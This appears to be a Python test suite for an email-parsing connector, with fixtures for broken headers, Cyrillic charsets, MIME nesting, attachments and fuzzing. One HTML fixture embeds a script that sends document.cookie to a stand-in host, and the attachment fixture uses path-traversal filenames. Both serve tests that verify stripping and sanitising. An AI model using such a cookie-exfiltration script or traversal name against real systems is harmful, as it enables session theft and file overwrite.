"""parse_message on a corpus of real-world-shaped messages, broken ones first, plus fuzzing.

Every message is written here as bytes, the way a server hands it over, so each test shows the
input next to the outcome it asserts.
"""

from __future__ import annotations

import base64
import re
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connectors.email.mapping import (
    decode_text,
    guess_charset,
    message_direction,
    parse_message,
    resolve_charset,
    safe_filename,
    trim_quoted,
)
from core.mail import MailAddress, MailMessage

IDATE = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)


def parse(raw: bytes, **kw: object) -> MailMessage:
    args: dict = {"folder": "INBOX", "uid": 7, "internal_date": IDATE, **kw}
    return parse_message(raw, **args)


def crlf(text: str, charset: str = "utf-8") -> bytes:
    """Write a message as text with LF line ends; the server hands it over with CRLF."""
    return text.replace("\n", "\r\n").encode(charset)


def has(problems: list[str], *words: str) -> bool:
    return any(all(w in p for w in words) for p in problems)


SIMPLE = crlf(
    """\
From: "Ivanov, Ivan" <Ivan.Ivanov@Client.RU>
To: Sales <sales@ours.example>, boss@ours.example
Cc: =?utf-8?b?0JzQsNGA0LjRjw==?= <maria@client.ru>
Subject: =?utf-8?q?=D0=97=D0=B0=D0=BA=D0=B0=D0=B7?= #42
Date: Mon, 2 Mar 2026 10:15:00 +0300
Message-ID: <  CAF=abc123@mail.client.ru >
In-Reply-To: <prev-1@ours.example>
References: <root-1@ours.example>
 <prev-1@ours.example>
Content-Type: text/plain; charset=utf-8

Добрый день! Подтверждаем заказ.
"""
)


# ---------------------------------------------------------------- a well-formed message


def test_simple_message_fields() -> None:
    msg = parse(SIMPLE, flags=[b"\\Seen", "$Label1"])
    assert msg.message_id == "CAF=abc123@mail.client.ru"
    assert msg.subject == "Заказ #42"
    assert msg.from_ == [MailAddress("ivan.ivanov@client.ru", "Ivanov, Ivan")]
    assert msg.to == [MailAddress("sales@ours.example", "Sales"), MailAddress("boss@ours.example", "")]
    assert msg.cc == [MailAddress("maria@client.ru", "Мария")]
    assert msg.sent_at == datetime(2026, 3, 2, 7, 15, tzinfo=UTC)
    assert msg.sent_at.tzinfo is UTC
    assert msg.in_reply_to == "prev-1@ours.example"
    assert msg.references == ["root-1@ours.example", "prev-1@ours.example"]
    assert msg.thread_root == "root-1@ours.example"
    assert msg.text == "Добрый день! Подтверждаем заказ."
    assert msg.html is None and msg.attachments == []
    assert (msg.folder, msg.uid, msg.flags, msg.raw) == ("INBOX", 7, ("\\Seen", "$Label1"), SIMPLE)
    assert msg.problems == []


# ---------------------------------------------------------------- identity


def test_missing_message_id_gets_a_stable_hash_key() -> None:
    raw = SIMPLE.replace(b"Message-ID: <  CAF=abc123@mail.client.ru >\r\n", b"")
    inbox = parse(raw, folder="INBOX", uid=1, internal_date=IDATE)
    sent = parse(raw.replace(b"\r\n", b"\n"), folder="Sent", uid=99, internal_date=IDATE + timedelta(days=3))
    assert re.fullmatch(r"hash:[0-9a-f]{64}", inbox.message_id)
    assert inbox.message_id == sent.message_id
    assert has(inbox.problems, "Message-ID", "hash")
    other = parse(raw.replace(b"#42", b"#43"))
    assert other.message_id != inbox.message_id


def test_empty_message_id_and_no_date_still_dedupe_across_folders() -> None:
    raw = b"From: a@b.example\r\nTo: c@d.example\r\nSubject: hi\r\nMessage-ID:\r\n\r\nx\r\n"
    one = parse(raw, internal_date=IDATE)
    two = parse(raw, internal_date=IDATE + timedelta(hours=5), folder="Archive")
    assert one.message_id == two.message_id and one.message_id.startswith("hash:")


def test_message_id_without_brackets_and_folded() -> None:
    assert parse(b"Message-ID: plain-id@host.example\r\n\r\nx").message_id == "plain-id@host.example"
    assert parse(b"Message-Id:\r\n <folded@host.example>\r\n\r\nx").message_id == "folded@host.example"
    assert parse(b"Message-ID: 1234567 junk\r\n\r\nx").message_id == "1234567"
    assert parse(b"Message-ID: <>\r\n\r\nx").message_id.startswith("hash:")


def test_messages_without_any_header_differ_by_body() -> None:
    a, b = parse(b"\r\nbody one\r\n"), parse(b"\r\nbody two\r\n")
    assert a.message_id != b.message_id
    assert a.message_id.startswith("hash:") and b.message_id.startswith("hash:")


# ---------------------------------------------------------------- missing and broken headers


def test_missing_headers() -> None:
    msg = parse(b"\r\njust a body\r\n")
    assert (msg.subject, msg.from_, msg.to, msg.in_reply_to, msg.references) == ("", [], [], None, [])
    assert msg.text == "just a body"
    assert msg.sent_at == IDATE
    assert has(msg.problems, "Date", "missing", "INTERNALDATE")


def test_unparseable_date_falls_back_to_internal_date_made_utc() -> None:
    naive = datetime(2026, 1, 5, 8, 30)
    msg = parse(b"Date: Mon, 32 Foo 2020 25:99\r\nSubject: x\r\n\r\nb", internal_date=naive)
    assert msg.sent_at == datetime(2026, 1, 5, 8, 30, tzinfo=UTC)
    assert has(msg.problems, "Date", "unparseable", "Mon, 32 Foo 2020")
    nothing = parse(b"Subject: x\r\n\r\nb", internal_date=None)
    assert nothing.sent_at is None and has(nothing.problems, "Date", "no INTERNALDATE")
    moscow = datetime(2026, 1, 5, 11, 30, tzinfo=timezone(timedelta(hours=3)))
    assert parse(b"\r\nb", internal_date=moscow).sent_at == datetime(2026, 1, 5, 8, 30, tzinfo=UTC)


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("Tue, 1 Jan 2019 10:00:00 +0300 (MSK)", datetime(2019, 1, 1, 7, 0, tzinfo=UTC)),
        ("1 Jan 2019 10:00:00 -0000", datetime(2019, 1, 1, 10, 0, tzinfo=UTC)),
        ("Tue, 01 Jan 19 10:00:00 GMT", datetime(2019, 1, 1, 10, 0, tzinfo=UTC)),
        ("Tue, 1 Jan 2019 10:00:00 EST", datetime(2019, 1, 1, 15, 0, tzinfo=UTC)),
        ("2019-01-01 10:00:00+05:00", datetime(2019, 1, 1, 5, 0, tzinfo=UTC)),
    ],
)
def test_dates_become_utc(header: str, expected: datetime) -> None:
    msg = parse(f"Date: {header}\r\n\r\nx".encode())
    assert msg.sent_at == expected and msg.sent_at.tzinfo is UTC
    assert not any(p.startswith("Date") for p in msg.problems)


def test_8bit_garbage_in_headers() -> None:
    raw = (
        b"From: \xc2\xe0\xf1\xff \xcf\xf3\xef\xea\xe8\xed <vasya@example.ru>\r\n"
        b"To: \xff\xfe\x00\x01 <x@example.com>, \x80\x81\x82\r\n"
        b"Subject: \xcf\xf0\xe8\xe2\xe5\xf2, \xea\xe0\xea \xe4\xe5\xeb\xe0?\r\n"
        b"Content-Type: text/plain; charset=windows-1251\r\n\r\n\xcf\xf0\xe8\xe2\xe5\xf2\r\n"
    )
    msg = parse(raw)
    assert msg.subject == "Привет, как дела?"
    assert msg.from_ == [MailAddress("vasya@example.ru", "Вася Пупкин")]
    assert [a.email for a in msg.to] == ["x@example.com"]
    assert has(msg.problems, "Subject", "8-bit")
    assert msg.text == "Привет"
    for text in (msg.subject, msg.text, *(a.name for a in msg.all_addresses())):
        assert "\x00" not in text and not re.search(r"[\ud800-\udfff]", text)


def test_undeclared_8bit_utf8_header() -> None:
    msg = parse("Subject: Счёт № 5\r\nFrom: Пётр <petr@example.ru>\r\n\r\nx".encode())
    assert msg.subject == "Счёт № 5"
    assert msg.from_ == [MailAddress("petr@example.ru", "Пётр")]


def test_unknown_charsets_in_headers() -> None:
    raw = (
        b"Subject: =?x-unknown?Q?caf=C3=A9?= and =?win-1251?B?z/Do4uXy?= and =?bogus?Q?na=EFve?=\r\n"
        b"From: =?unknown-8bit?B?0JjQstCw0L0=?= <ivan@example.ru>\r\n\r\nx"
    )
    msg = parse(raw)
    assert msg.subject == "café and Привет and naïve"
    assert msg.from_ == [MailAddress("ivan@example.ru", "Иван")]
    assert has(msg.problems, "Subject", "x-unknown")
    assert has(msg.problems, "Subject", "bogus")


def test_invalid_base64_in_encoded_word_does_not_break_subject() -> None:
    msg = parse(b"Subject: =?utf-8?B?!!!notbase64?= tail\r\n\r\nx")
    assert "tail" in msg.subject


def test_huge_headers_are_truncated() -> None:
    subject = "Ж" * 20_000
    many = ", ".join(f"User {i} <user{i}@example.com>" for i in range(5_000))
    refs = " ".join(f"<r{i}@example.com>" for i in range(5_000))
    raw = f"Subject: {subject}\nTo: {many}\nReferences: {refs}\n\nbody\n".replace("\n", "\r\n").encode()
    msg = parse(raw)
    assert msg.subject == "Ж" * 998
    assert 100 < len(msg.to) < 5_000
    assert msg.to[0] == MailAddress("user0@example.com", "User 0")
    assert all(a.email.endswith("@example.com") and a.name.startswith("User ") for a in msg.to)
    assert has(msg.problems, "To", "truncated") and has(msg.problems, "Subject", "truncated")
    assert msg.references[0] == "r0@example.com" and len(msg.references) > 1000


def test_subject_whitespace_folded() -> None:
    msg = parse(b"Subject:   Re:\tquote\r\n\t  of the\r\n   day  \x00 \r\n\r\nx")
    assert msg.subject == "Re: quote of the day"


# ---------------------------------------------------------------- addresses


def test_addresses_groups_and_garbage() -> None:
    raw = (
        b"From: <>\r\n"
        b"To: undisclosed-recipients:;\r\n"
        b'Cc: Team: A <A@X.example>, b@y.example;, "Smith, J" <J.Smith@Z.example>, not an address,'
        b' bad@@host, <x@y.example>, "unterminated <q@w.example>\r\n'
        b"Bcc: =?utf-8?q?Jos=C3=A9?= <jose@x.example>, JOSE@X.EXAMPLE\r\n"
        b'Reply-To: "=?koi8-r?b?68/O1NLBy9Q=?=" <contract@example.ru>\r\n\r\nx'
    )
    msg = parse(raw)
    assert msg.from_ == [] and msg.to == []
    assert [a.email for a in msg.cc] == ["a@x.example", "b@y.example", "j.smith@z.example", "x@y.example"]
    assert msg.cc[2].name == "Smith, J"
    assert msg.bcc == [MailAddress("jose@x.example", "José")]
    assert msg.reply_to == [MailAddress("contract@example.ru", "Контракт")]
    assert has(msg.problems, "Cc")
    assert not any(p.startswith(("To:", "From:")) for p in msg.problems)


def test_display_name_with_bad_charset_tolerated() -> None:
    msg = parse(b"From: =?x-mac-klingon?Q?Stra=DFe?= <s@example.de>\r\n\r\nx")
    assert msg.from_[0].email == "s@example.de"
    assert msg.from_[0].name.startswith("Stra")


# ---------------------------------------------------------------- bodies and charsets


def test_windows_1251_mail() -> None:
    raw = crlf(
        """\
From: =?windows-1251?B?yOLg7Q==?= <ivan@example.ru>
Subject: =?windows-1251?Q?=D1=F7=B8=F2?=
Content-Type: text/plain; charset="windows-1251"
Content-Transfer-Encoding: 8bit

Здравствуйте! Высылаю счёт.
""",
        "cp1251",
    )
    msg = parse(raw)
    assert msg.subject == "Счёт"
    assert msg.from_[0].name == "Иван"
    assert msg.text == "Здравствуйте! Высылаю счёт."
    assert not has(msg.problems, "charset") and not has(msg.problems, "body")


def test_koi8r_mail_quoted_printable() -> None:
    body = "Привет из девяностых".encode("koi8_r")
    qp = "".join(f"={b:02X}" if b > 127 else chr(b) for b in body)
    raw = (
        "From: =?KOI8-R?B?98HTyQ==?= <vasya@example.ru>\r\nSubject: =?koi8-r?Q?=F0=D2=C9=D7=C5=D4?=\r\n"
        "Content-Type: text/plain; charset=koi8-r\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        f"{qp}\r\n"
    ).encode()
    msg = parse(raw)
    assert (msg.subject, msg.from_[0].name, msg.text) == ("Привет", "Васи", "Привет из девяностых")


def test_undeclared_cyrillic_bodies_are_guessed() -> None:
    text = "Добрый день, коллеги. Отчёт во вложении."
    for charset in ("cp1251", "koi8_r"):
        msg = parse(b"Subject: x\r\n\r\n" + text.encode(charset))
        assert msg.text == text
        assert has(msg.problems, "text/plain body", charset)


def test_unknown_body_charset_falls_back_and_is_noted() -> None:
    utf8 = parse(b"Content-Type: text/plain; charset=x-klingon\r\n\r\n" + "Grüße".encode())
    assert utf8.text == "Grüße" and has(utf8.problems, "unknown charset", "x-klingon", "utf-8")
    latin = parse(b"Content-Type: text/plain; charset=x-klingon\r\n\r\nGr\xfc\xdfe aus K\xf6ln")
    assert latin.text == "Grüße aus Köln" and has(latin.problems, "x-klingon", "cp1252")


def test_declared_utf8_but_really_1251() -> None:
    msg = parse(b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + "Привет, мир".encode("cp1251"))
    assert msg.text == "Привет, мир"
    assert has(msg.problems, "text/plain body", "not valid utf-8", "cp1251")
    # Real UTF-8 with one broken byte keeps its text; only the bad byte is replaced.
    broken = parse(b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + "Привет".encode() + b"\xff!")
    assert broken.text == "Привет\ufffd!" and has(broken.problems, "invalid utf-8 bytes replaced")


def test_base64_errors() -> None:
    good = base64.b64encode("Счёт оплачен".encode()).decode()
    raw = crlf(
        f"""\
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{good[:-2]}!!*
--b1
Content-Type: application/pdf; name="scan.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQK%%%%garbage===
--b1--
"""
    )
    msg = parse(raw)
    assert msg.text.startswith("Счёт")
    assert msg.attachments[0].filename == "scan.pdf"
    assert msg.attachments[0].content is not None and msg.attachments[0].content.startswith(b"%PDF-1.4")
    assert has(msg.problems, "MIME", "base64")


# ---------------------------------------------------------------- MIME structure


def test_boundary_never_found() -> None:
    raw = crlf(
        """\
Subject: broken
Content-Type: multipart/mixed; boundary="declared-but-absent"

This is the body of a message whose boundary never appears.
"""
    )
    msg = parse(raw)
    assert msg.text == "This is the body of a message whose boundary never appears."
    assert has(msg.problems, "MIME")


def test_unterminated_multipart_and_missing_boundary_parameter() -> None:
    raw = crlf(
        """\
Content-Type: multipart/alternative; boundary="alt"

preamble
--alt
Content-Type: text/plain

Plain part.
--alt
Content-Type: text/html

<p>HTML part.</p>
"""
    )
    msg = parse(raw)
    assert msg.text == "Plain part."
    assert msg.html is not None and "HTML part." in msg.html
    assert has(msg.problems, "MIME")
    no_param = parse(b"Content-Type: multipart/mixed\r\n\r\nraw text\r\n")
    assert no_param.text == "raw text" and has(no_param.problems, "MIME")


HTML = (
    "<html><head><title>T</title><style>p{color:red}</style>"
    "<script>document.location='http://evil.example/?c='+document.cookie</script></head>"
    "<body><p>Hello <b>there</b>,</p><img src='http://tracker.example/pixel.gif'>"
    "<p>see <a href='https://shop.example/item'>the offer</a></p>"
    "<script>alert(1)</script>"
    "<div>On Mon, 2 Mar 2026 at 10:00, Bob &lt;bob@example.com&gt; wrote:</div>"
    "<blockquote>old stuff</blockquote></body></html>"
)
HTML_ONLY = b"Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HTML.encode()


def test_html_only_mail_with_script_and_remote_images() -> None:
    html, raw = HTML, HTML_ONLY
    msg = parse(raw)
    assert msg.html == html
    assert msg.text.startswith("Hello there,")
    assert "the offer" in msg.text
    for absent in ("script", "alert", "document", "evil", "tracker", "pixel", "old stuff", "wrote"):
        assert absent not in msg.text


def test_html_charset_from_meta_tag() -> None:
    body = '<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"></head>'
    raw = b"Content-Type: text/html\r\n\r\n" + (body + "<body>Цена</body></html>").encode("cp1251")
    msg = parse(raw)
    assert msg.html is not None and "Цена" in msg.html and msg.text.strip() == "Цена"


def test_empty_text_part_uses_html() -> None:
    raw = crlf(
        """\
Content-Type: multipart/alternative; boundary=a

--a
Content-Type: text/plain

\u0020
--a
Content-Type: text/html

<p>Real content</p>
--a--
"""
    )
    assert parse(raw).text == "Real content"


_INNER = crlf(
    """\
From: inner@example.com
Subject: =?utf-8?q?=D0=A1=D1=87=D1=91=D1=82/2026?=
Content-Type: multipart/mixed; boundary=inner

--inner
Content-Type: text/plain

inner text must not leak
--inner
Content-Type: application/pdf; name=inner.pdf

PDF
--inner--
"""
)
NESTED = (
    crlf(
        """\
Subject: Fwd: invoice
Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: text/plain

See the forwarded mail.
--outer
Content-Type: message/rfc822

"""
    )
    + _INNER
    + crlf("--outer\nContent-Type: message/rfc822\n\nnot really a message\n--outer--\n")
)


def test_nested_message_rfc822_is_an_attachment() -> None:
    raw = NESTED
    msg = parse(raw)
    assert msg.text == "See the forwarded mail."
    first, second = msg.attachments
    assert first.filename == "Счёт_2026.eml"  # the subject was "Счёт/2026"
    assert first.content_type == "message/rfc822"
    assert first.content is not None and b"inner text must not leak" in first.content
    assert first.size == len(first.content)
    assert second.filename == "attachment-2.eml"
    assert "inner text" not in msg.text


def test_deeply_nested_multiparts_do_not_crash() -> None:
    depth = 200
    head = "".join(f"Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n" for i in range(depth))
    tail = "".join(f"\r\n--b{i}--\r\n" for i in reversed(range(depth)))
    raw = (head + "Content-Type: text/plain\r\n\r\ndeep" + tail).encode()
    msg = parse(raw)
    assert isinstance(msg, MailMessage)
    assert has(msg.problems, "MIME", "nested")


# ---------------------------------------------------------------- attachments

ATTACHMENTS = crlf(
    """\
Subject: files
Content-Type: multipart/mixed; boundary="XX"

--XX
Content-Type: multipart/related; boundary="REL"

--REL
Content-Type: text/html; charset=utf-8

<p>See <img src="cid:logo"></p>
--REL
Content-Type: image/png
Content-ID: <logo>
Content-Disposition: inline

PNGDATA
--REL
Content-Type: image/jpeg; name="photo.jpg"
Content-Disposition: inline; filename="photo.jpg"
Content-ID: <photo>

JPEGDATA
--REL--
--XX
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''%D0%9E%D1%82%D1%87%D1%91%D1%82%20Q1.pdf

PDF1
--XX
Content-Type: application/vnd.ms-excel
Content-Disposition: attachment;
 filename*0*=windows-1251''%D1%EF%E8%F1%EE%EA;
 filename*1*=%20%EA%EB%E8%E5%ED%F2%EE%E2.xls

XLS
--XX
Content-Type: application/msword; name="=?UTF-8?B?0JTQvtCz0L7QstC+0YAuZG9j?="
Content-Disposition: attachment; filename="=?UTF-8?B?0JTQvtCz0L7QstC+0YAuZG9j?="

DOC
--XX
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="..\\\\..\\\\windows\\\\system32\\\\evil.exe"

EXE
--XX
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="/etc/passwd"

ROOT
--XX
Content-Type: application/zip
Content-Transfer-Encoding: base64

UEsDBAoAAAAAAA==
--XX
Content-Type: text/plain; name="notes.txt"
Content-Disposition: attachment

plain text attachment
--XX
Content-Type: text/calendar; method=REQUEST

BEGIN:VCALENDAR
--XX--
"""
)


def test_attachments() -> None:
    msg = parse(ATTACHMENTS)
    names = [a.filename for a in msg.attachments]
    assert names == [
        "photo.jpg",
        "Отчёт Q1.pdf",
        "Список клиентов.xls",
        "Договор.doc",
        "evil.exe",
        "passwd",
        "attachment-7",
        "notes.txt",
        "attachment-9",
    ]
    by_name = {a.filename: a for a in msg.attachments}
    assert by_name["photo.jpg"].content_type == "image/jpeg"
    assert by_name["attachment-7"].content == b"PK\x03\x04\n\x00\x00\x00\x00\x00"
    assert by_name["attachment-7"].size == 10
    assert by_name["notes.txt"].content == b"plain text attachment"
    assert by_name["attachment-9"].content_type == "text/calendar"
    assert "PNGDATA" not in str([a.content for a in msg.attachments])  # unnamed inline image skipped
    assert msg.html is not None and "cid:logo" in msg.html
    assert msg.text == "See"


def test_raw_8bit_attachment_names() -> None:
    raw = (
        b"Content-Type: multipart/mixed; boundary=B\r\n\r\n"
        b"--B\r\nContent-Type: text/plain; charset=windows-1251\r\n\r\n\xcf\xf0\xe8\xe2\xe5\xf2\r\n"
        b'--B\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="'
        + "Отчёт.pdf".encode()
        + b'"\r\n\r\nx\r\n'
        b'--B\r\nContent-Type: application/pdf; name="' + "Счёт.pdf".encode("cp1251") + b'"\r\n\r\ny\r\n--B--\r\n'
    )
    msg = parse(raw)
    assert [a.filename for a in msg.attachments] == ["Отчёт.pdf", "Счёт.pdf"]
    assert msg.text == "Привет"
    assert has(msg.problems, "attachment name", "utf-8") and has(msg.problems, "attachment name", "cp1251")


def test_attachment_over_the_cap_keeps_metadata_only() -> None:
    msg = parse(ATTACHMENTS, attachment_cap=4)
    sizes = {a.filename: (a.size, a.content) for a in msg.attachments}
    assert sizes["Отчёт Q1.pdf"] == (4, b"PDF1")
    assert sizes["photo.jpg"] == (8, None)
    assert sizes["notes.txt"] == (21, None)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("report.pdf", "report.pdf"),
        ("C:\\Users\\me\\report.pdf", "report.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..", ""),
        ("  spaced .txt  ", "spaced .txt"),
        ("a\x00b\x07c.txt", "abc.txt"),
        ("x" * 300 + ".docx", "x" * 195 + ".docx"),
    ],
)
def test_safe_filename(name: str, expected: str) -> None:
    assert safe_filename(name) == expected


# ---------------------------------------------------------------- quoted history


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Thanks!\n\nOn Mon, Mar 2, 2026 at 10:00 AM Bob <bob@x.com> wrote:\n> hi\n> there", "Thanks!"),
        ("Thanks!\n\nOn Mon, Mar 2, 2026 at 10:00 AM Bob Smith <\nbob@x.com> wrote:\n> hi", "Thanks!"),
        ("Ok.\n\n-----Original Message-----\nFrom: Bob\nSent: Monday\n\nold", "Ok."),
        ("Ok.\n\n________________________________\nFrom: Bob <b@x.com>\nSent: Monday, March 2\nTo: me\n", "Ok."),
        ("Да.\n\nОт: Иван <i@x.ru>\nОтправлено: 2 марта 2026 г. 10:00\nКому: я\nТема: вопрос\n\nстарое", "Да."),
        ("Да.\n\n-----Исходное сообщение-----\nОт: Иван\n", "Да."),
        ("Хорошо.\n\n02.03.2026 10:00, Иван Петров пишет:\n> вопрос", "Хорошо."),
        ("Хорошо.\n\nПонедельник, 2 марта 2026, 10:00 +03:00 от Иван <ivan@mail.ru>:\n> вопрос", "Хорошо."),
        ("Answer\n\n> quoted\n> more\n\n", "Answer"),
        (
            "> question one\nanswer one\n> question two\nanswer two\n> trailing",
            "> question one\nanswer one\n> question two\nanswer two",
        ),
        ("From: the sales team we got a note.\nIt was good.", "From: the sales team we got a note.\nIt was good."),
        ("> only quoted\n> nothing else", "> only quoted\n> nothing else"),
        ("line one\r\nline two\r\n\r\n", "line one\nline two"),
        ("OK\n\nON MON, 2 MAR 2026 BOB <bob@x.com> WROTE:\n> hi", "OK"),
        ("Да.\n\n02.03.2026 10:00, ИВАН ПЕТРОВ ПИШЕТ:\n> вопрос", "Да."),
        ("Yes.\n\nFROM: Bob <b@x.com>\nSENT: Monday\n\nold", "Yes."),
        # İ grows when lowered: the lines are then searched without lowering, with the same result
        ("İyi günler, İstanbul\n\nOn Mon, Bob <b@x.com> wrote:\n> hi", "İyi günler, İstanbul"),
        ("İyi\n\nFrom: Bob <b@x.com>\nDate: Monday\n\nold", "İyi"),
    ],
)
def test_trim_quoted(text: str, expected: str) -> None:
    assert trim_quoted(text) == expected


def test_quoted_history_trimmed_in_parsed_mail() -> None:
    raw = crlf(
        """\
Subject: Re: offer

Agreed, send the contract.

On Mon, 2 Mar 2026 at 10:00, Sales <sales@ours.example> wrote:
> Here is our offer.
> Regards
"""
    )
    assert parse(raw).text == "Agreed, send the contract."


# ---------------------------------------------------------------- charset helpers


def test_charset_helpers() -> None:
    assert resolve_charset("WIN-1251") == "cp1251"
    assert resolve_charset('"utf8"') == "utf-8"
    assert resolve_charset("x-unknown") is None
    assert resolve_charset("base64") is None  # a codec, but not a text encoding
    assert resolve_charset("idna") is None
    assert resolve_charset(None) is None
    assert guess_charset(b"plain") == "ascii"
    assert guess_charset("привет мир".encode("cp1251")) == "cp1251"
    assert guess_charset("привет мир".encode("koi8_r")) == "koi8_r"
    assert guess_charset("Grüße aus Köln".encode("cp1252")) == "cp1252"
    assert decode_text("€".encode("cp1252"), "iso-8859-1") == ("€", None)


# ---------------------------------------------------------------- direction


def test_message_direction() -> None:
    def msg(sender: str, *to: str) -> MailMessage:
        return MailMessage(
            message_id="m",
            folder="INBOX",
            uid=1,
            subject="",
            sent_at=None,
            from_=[MailAddress(sender)],
            to=[MailAddress(t) for t in to],
        )

    own, domains = {"Me@Ours.Example"}, {"ours.example"}
    assert message_direction(msg("me@ours.example", "c@client.ru"), own, domains) == "outgoing"
    assert message_direction(msg("c@client.ru", "me@ours.example"), own, domains) == "incoming"
    assert message_direction(msg("colleague@ours.example", "c@client.ru"), own, domains) == "outgoing"
    assert message_direction(msg("colleague@mail.ours.example", "c@client.ru"), own, domains) == "outgoing"
    assert message_direction(msg("colleague@ours.example", "me@ours.example"), own, domains) == "incoming"
    assert message_direction(msg("x@notours.example", "c@client.ru"), own, domains) == "incoming"
    assert message_direction(parse(b"\r\nno from"), own, domains) == "incoming"


# ---------------------------------------------------------------- fuzzing

CORPUS = [SIMPLE, ATTACHMENTS, NESTED, HTML_ONLY]


def check_invariants(msg: MailMessage, raw: bytes) -> None:
    assert isinstance(msg, MailMessage)
    assert msg.raw == raw
    assert msg.message_id and len(msg.message_id) <= 998
    assert msg.sent_at is None or msg.sent_at.utcoffset() == timedelta(0)
    assert len(msg.subject) <= 998
    strings = [msg.message_id, msg.subject, msg.text, msg.html or "", *msg.references, *msg.problems]
    strings += [a.email for a in msg.all_addresses()] + [a.name for a in msg.all_addresses()]
    strings += [a.filename for a in msg.attachments] + [a.content_type for a in msg.attachments]
    for text in strings:
        assert isinstance(text, str) and "\x00" not in text
        text.encode("utf-8")  # no lone surrogates
    for address in msg.all_addresses():
        assert address.email == address.email.lower() and "@" in address.email
    for attachment in msg.attachments:
        assert attachment.filename and "/" not in attachment.filename and "\\" not in attachment.filename
        assert attachment.content is None or len(attachment.content) == attachment.size


# database=None: no .hypothesis folder in the work tree; failures print their input anyway.
FUZZ = settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])


@FUZZ
@given(st.binary(max_size=3000))
def test_never_raises_on_arbitrary_bytes(raw: bytes) -> None:
    check_invariants(parse(raw), raw)


HEADERISH = st.lists(
    st.sampled_from(
        [
            b"From: ",
            b"To: ",
            b"Subject: =?utf-8?B?",
            b"?=",
            b"Date: ",
            b"Content-Type: multipart/mixed; boundary=",
            b"--",
            b"\r\n",
            b"\n",
            b"\r\n\r\n",
            b"<",
            b">",
            b"@",
            b",",
            b":",
            b";",
            b'"',
            b"=?",
            b"\xff",
            b"\x00",
            b"Content-Transfer-Encoding: base64\r\n",
            b"message/rfc822",
            b"filename*0*=",
            b"%D0",
            b"'",
        ]
    ),
    max_size=60,
).map(b"".join)


@FUZZ
@given(HEADERISH)
def test_never_raises_on_header_soup(raw: bytes) -> None:
    check_invariants(parse(raw), raw)


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(CORPUS)))
    for _ in range(draw(st.integers(1, 8))):
        op = draw(st.sampled_from(["flip", "delete", "insert", "duplicate", "truncate"]))
        pos = draw(st.integers(0, len(data)))
        if op == "flip" and pos < len(data):
            data[pos] = draw(st.integers(0, 255))
        elif op == "delete":
            del data[pos : pos + draw(st.integers(1, 200))]
        elif op == "insert":
            data[pos:pos] = draw(st.binary(min_size=1, max_size=50))
        elif op == "duplicate":
            data[pos:pos] = data[pos : pos + draw(st.integers(1, 400))]
        elif op == "truncate":
            del data[pos:]
    return bytes(data)


@FUZZ
@given(mutated())
def test_never_raises_on_mutated_messages(raw: bytes) -> None:
    check_invariants(parse(raw), raw)
